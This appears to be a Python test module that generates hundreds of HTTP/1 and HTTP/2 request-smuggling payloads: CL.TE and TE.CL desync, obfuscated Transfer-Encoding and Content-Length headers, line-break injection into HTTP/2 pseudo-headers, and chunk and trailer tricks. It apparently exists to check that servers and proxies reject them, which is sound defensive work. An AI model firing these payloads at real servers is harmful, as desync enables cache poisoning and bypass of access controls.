"""Attacks on the framing of requests: each is one request, made to become two, or to mean two things.

Generated, so that each idea meets each place where it fits. `MARK` is in every request that must not be one.
"""

from __future__ import annotations

from dataclasses import dataclass, field

MARK = b"smuggled"
HOST = b"%HOST%"
"""Stands for the upstream's host and port."""

Fields = list[tuple[bytes, bytes]]


@dataclass(frozen=True)
class H1:
    """The bytes of one HTTP/1 request, or what claims to be."""

    name: str
    data: bytes


@dataclass(frozen=True)
class H2:
    """The fields of one HTTP/2 request."""

    name: str
    fields: Fields
    body: bytes = b""
    trailers: Fields = field(default_factory=list)


SECOND = b"GET /" + MARK + b" HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"
BREAKS = {
    "crlf": b"\r\n", "lf": b"\n", "cr": b"\r", "nul": b"\x00", "vt": b"\x0b", "ff": b"\x0c",
    "fold": b"\r\n ", "nel": b"\xc2\x85", "del": b"\x7f", "us": b"\x1f",
}  # fmt: skip
"""What some parser takes for the end of a line, or a space."""
CODINGS = (
    b"chunked", b"Chunked", b"xchunked", b"chunked, identity", b"identity, chunked", b"\x0bchunked",
    b"chunked\x00",
    b"chunked,", b",chunked", b"chunked;q=1", b'"chunked"', b"chunked, chunked", b"cow", b"gzip",
)  # fmt: skip
NAMES = (
    b"Transfer-Encoding", b"Transfer_Encoding", b"Transfer-Encoding ", b" Transfer-Encoding",
    b"Transfer-Encoding\t",
    b"Transfer.Encoding", b"Transfer-Encoding\x00", b"\x0bTransfer-Encoding", b"Transfer Encoding",
    b"transfer-encod\xc4\xb1ng", b"Transfer-Encoding\r", b"X: y\nTransfer-Encoding", b"Content_Length",
)  # fmt: skip
LENGTHS = (
    b"+%d", b"-%d", b" %d ", b"0%d", b"%d, %d", b"0x%x", b"%d.0", b"%d\x00", b"%d\x0b", b"%d_0", b"1e1",
    b"9999999999999999999999", b"%d;a", b"", b"\xef\xbc\x91",
)  # fmt: skip


def _length(form: bytes, size: int) -> bytes:
    return form % ((size,) * form.count(b"%")) if b"%" in form else form


def h1() -> list[H1]:  # noqa: C901 - a list of attacks
    """Attacks by HTTP/1."""
    found: list[H1] = []
    chunked = b"0\r\n\r\n" + SECOND

    def add(name: str, head: bytes, body: bytes = b"") -> None:
        found.append(H1(f"h1-{name}", head + b"\r\n\r\n" + body))

    host = b"Host: " + HOST
    for word, mark in BREAKS.items():
        add(f"value-{word}", b"GET /a HTTP/1.1\r\n%s\r\nX: a%sY: b" % (host, mark))
        add(f"value-end-{word}", b"GET /a HTTP/1.1\r\n%s\r\nX: a%s\r\nY: b" % (host, mark))
        add(f"name-{word}", b"GET /a HTTP/1.1\r\n%s\r\nX%sA: b" % (host, mark))
        add(f"target-{word}", b"GET /a%sb HTTP/1.1\r\n%s" % (mark, host))
        add(f"method-{word}", b"G%sET /a HTTP/1.1\r\n%s" % (mark, host))
        add(f"version-{word}", b"GET /a HTTP/1.1%s\r\n%s" % (mark, host))
        if word != "crlf":  # that would be two requests in a row, which is allowed
            add(f"second-{word}", b"GET /a HTTP/1.1\r\n%s\r\nX: a%s%s%s" % (host, mark, mark, SECOND.strip()))
        add(f"line-end-{word}", b"GET /a HTTP/1.1%s%s%sX: b" % (mark, host, mark))
    for number, coding in enumerate(CODINGS):
        post = b"POST /a HTTP/1.1\r\n%s\r\nTransfer-Encoding: %s" % (host, coding)
        if coding.lower() != b"chunked":  # that would be two requests in a row, as above
            add(f"te-{number}", post, chunked)
        add(f"te-cl-{number}", post + b"\r\nContent-Length: 4", chunked)
        add(f"cl-te-{number}", post.replace(b"\r\nT", b"\r\nContent-Length: %d\r\nT" % len(chunked)), chunked)
        add(f"te-te-{number}", post + b"\r\nTransfer-Encoding: chunked", chunked)
        add(f"te-10-{number}", post.replace(b"HTTP/1.1", b"HTTP/1.0"), chunked)
    for number, name in enumerate(NAMES):
        for other in (b"", b"\r\nContent-Length: 5"):
            if name == NAMES[0] and not other:
                continue  # the same
            value = b"100" if b"ength" in name else b"chunked"
            line = b"POST /a HTTP/1.1\r\n%s\r\n%s: %s%s" % (host, name, value, other)
            add(f"name-te-{number}-{bool(other)}", line, chunked)
    for number, form in enumerate(LENGTHS):
        length = _length(form, len(SECOND))
        add(f"cl-{number}", b"POST /a HTTP/1.1\r\n%s\r\nContent-Length: %s" % (host, length), SECOND)
        two = b"POST /a HTTP/1.1\r\n%s\r\nContent-Length: 0\r\nContent-Length: %s" % (host, length)
        add(f"cl-cl-{number}", two, SECOND)
        back = b"POST /a HTTP/1.1\r\n%s\r\nContent-Length: %s\r\nContent-Length: 0" % (host, length)
        add(f"cl-back-{number}", back, SECOND)
    for number, size in enumerate(
        (b"5;a\nb", b"+5", b"0x5", b"-5", b"5_0", b"\x0b5", b"f" * 17, b"5\x00", b"")
    ):
        post = b"POST /a HTTP/1.1\r\n%s\r\nTransfer-Encoding: chunked" % host
        add(f"chunk-size-{number}", post, size + b"\r\nhello\r\n" + chunked)
    for number, end in enumerate((b"XX", b"\n", b"\r", b"", b"\n\n", b"\r\r")):
        post = b"POST /a HTTP/1.1\r\n%s\r\nTransfer-Encoding: chunked" % host
        add(f"chunk-end-{number}", post, b"5\r\nhello" + end + chunked)
    for number, line in enumerate((
        b"Content-Length: 9", b"Transfer-Encoding: chunked", b"Host: other", b"X\x00: y",
        b"X: a\x0bb", b"X y: z",
        b" folded: yes", b"X : y",
    )):  # fmt: skip
        post = b"POST /a HTTP/1.1\r\n%s\r\nTransfer-Encoding: chunked" % host
        add(f"trailer-{number}", post, b"5\r\nhello\r\n0\r\n" + line + b"\r\n\r\n")
    for number, line in enumerate((
        b"Connection: content-length", b"Connection: close, Transfer-Encoding", b"Host: other.test",
        b"Host: a@b",
        b"Host: a/b", b"Host:", b": x", b"no colon",
    )):  # fmt: skip
        add(f"field-{number}", b"POST /a HTTP/1.1\r\n%s\r\n%s\r\nContent-Length: 5" % (host, line), b"hello")
    for number, line in enumerate((
        b"GET  /a HTTP/1.1", b"GET /a  HTTP/1.1", b" GET /a HTTP/1.1", b"GET\t/a\tHTTP/1.1",
        b"GET /a HTTP/1.9",
        b"GET /a HTTP/2.0", b"GET /a http/1.1", b"GET /a", b"GET /a HTTP/1.1 x", b"head /a HTTP/1.1",
        b"connect /a HTTP/1.1", b"GET a HTTP/1.1", b"GET /a#b HTTP/1.1", b"GET * HTTP/1.1",
        b"G(T /a HTTP/1.1",
    )):  # fmt: skip
        add(f"line-{number}", line + b"\r\n" + host)
    return found


def _head(**changed: bytes | None) -> Fields:
    usual = {"method": b"GET", "scheme": b"https", "path": b"/a", "authority": HOST, **changed}
    return [(b":" + name.encode(), value) for name, value in usual.items() if value is not None]


def h2() -> list[H2]:  # noqa: C901 - a list of attacks
    """Attacks by HTTP/2, on servers that speak HTTP/1."""
    found: list[H2] = []

    def add(name: str, fields: Fields, body: bytes = b"", trailers: Fields | None = None) -> None:
        found.append(H2(f"h2-{name}", fields, body, trailers or []))

    split = (
        b" HTTP/1.1\r\nHost: "
        + HOST
        + b"\r\n\r\n"
        + SECOND.replace(b" HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n", b"")
    )
    for place in ("path", "method", "authority", "scheme"):
        usual = dict(_head())[b":" + place.encode()]
        for word, mark in BREAKS.items():
            add(f"{place}-{word}", _head(**{place: usual + mark + b"X: b"}))
            add(f"{place}-front-{word}", _head(**{place: mark + usual}))
            add(f"{place}-end-{word}", _head(**{place: usual + mark}))
            add(f"{place}-space-{word}", _head(**{place: usual + b" " + mark + b"b: c"}))
    add("path-split", _head(path=b"/a" + split))
    add(
        "method-split",
        _head(method=b"GET /a HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\nGET /" + MARK + b" HTTP/1.1\r\nX: "),
    )
    for lines in (b"\r\n", b"\n"):
        injected = lines + b"Host: " + HOST + lines * 2 + SECOND.strip()
        kind = "lf" if lines == b"\n" else "crlf"
        add(f"value-split-{kind}", [*_head(), (b"x", b"a" + injected)])
        add(f"name-split-{kind}", [*_head(), (b"x: a" + injected + b"y", b"b")])
        add(f"cookie-split-{kind}", [*_head(), (b"cookie", b"a" + injected), (b"cookie", b"b")])
        add(f"trailer-split-{kind}", _head(method=b"POST"), b"hello", [(b"x", b"a" + lines * 2 + SECOND)])
    for word, mark in BREAKS.items():
        add(f"value-{word}", [*_head(), (b"x", b"a" + mark + b"y: b")])
        add(f"value-end-{word}", [*_head(), (b"x", b"a" + mark)])
        add(f"name-{word}", [*_head(), (b"x" + mark + b"y", b"b")])
        add(f"trailer-value-{word}", _head(method=b"POST"), b"hello", [(b"x", b"a" + mark + b"y: b")])
        add(f"trailer-name-{word}", _head(method=b"POST"), b"hello", [(b"x" + mark + b"y", b"b")])
    for number, coding in enumerate(CODINGS):
        te = (b"transfer-encoding", coding)
        add(f"te-{number}", [*_head(method=b"POST"), te], b"0\r\n\r\n" + SECOND)
        add(f"te-cl-{number}", [*_head(method=b"POST"), te, (b"content-length", b"4")], b"0\r\n\r\n" + SECOND)
    for number, name in enumerate(NAMES):
        low = name.lower()
        add(f"name-te-{number}", [*_head(method=b"POST"), (low, b"chunked")], b"0\r\n\r\n" + SECOND)
        add(f"trailer-te-{number}", _head(method=b"POST"), b"hello", [(low, b"chunked")])
    for number, form in enumerate(LENGTHS):
        length = _length(form, len(SECOND))
        add(f"cl-{number}", [*_head(method=b"POST"), (b"content-length", length)], SECOND)
        two = [(b"content-length", b"0"), (b"content-length", length)]
        add(f"cl-cl-{number}", [*_head(method=b"POST"), *two], SECOND)
    for size in (0, 1, 4, 1000):
        add(f"cl-wrong-{size}", [*_head(method=b"POST"), (b"content-length", b"%d" % size)], SECOND)
    for name, value in (
        (b"connection", b"close"), (b"keep-alive", b"5"), (b"proxy-connection",
        b"close"), (b"upgrade", b"h2c"),
        (b"te", b"gzip"), (b"host", b"other.test"), (b"host", HOST + b"\r\nX: y"), (b"X-Upper", b"a"),
        (b"x", b" a"), (b"x", b"a "), (b"x", b"\ta"), (b"", b"a"), (b"connection", b"content-length"),
        (b":path", b"/" + MARK), (b":method", b"POST"), (b":unknown", b"a"), (b":status", b"200"),
        (b":protocol", b"websocket"), (b":", b"a"), (b"x:y", b"a"), (b"x y", b"a"), (b"host", b""),
    ):  # fmt: skip
        add(f"field-{name.decode()}-{len(found)}", [*_head(), (name, value)])
        if name.startswith(b":"):
            add(f"pseudo-{name.decode()}-{len(found)}", [(name, value), *_head()])
            add(f"trailer-{name.decode()}-{len(found)}", _head(method=b"POST"), b"hello", [(name, value)])
    for place in ("path", "method", "scheme", "authority"):
        add(f"no-{place}", _head(**{place: None}))
        add(f"empty-{place}", _head(**{place: b""}))
    for path in (b"*", b"a", b"//a b", b"http://other.test/", b"/a#b", b"/a b", b"?x"):
        add(f"path-{path.decode()}", _head(path=path))
    for method in (b"CONNECT", b"connect", b"Head", b"G T", b"GET ", b"PRI", b"G\xc3\x89T"):
        add(f"method-{method.decode()}", _head(method=method))
    for authority in (b"a@" + HOST, b"other.test/", b"a,b", b"[::1", b"a:99999999", b"a b", b"%61"):
        add(f"authority-{authority.decode()}", _head(authority=authority))
    return found
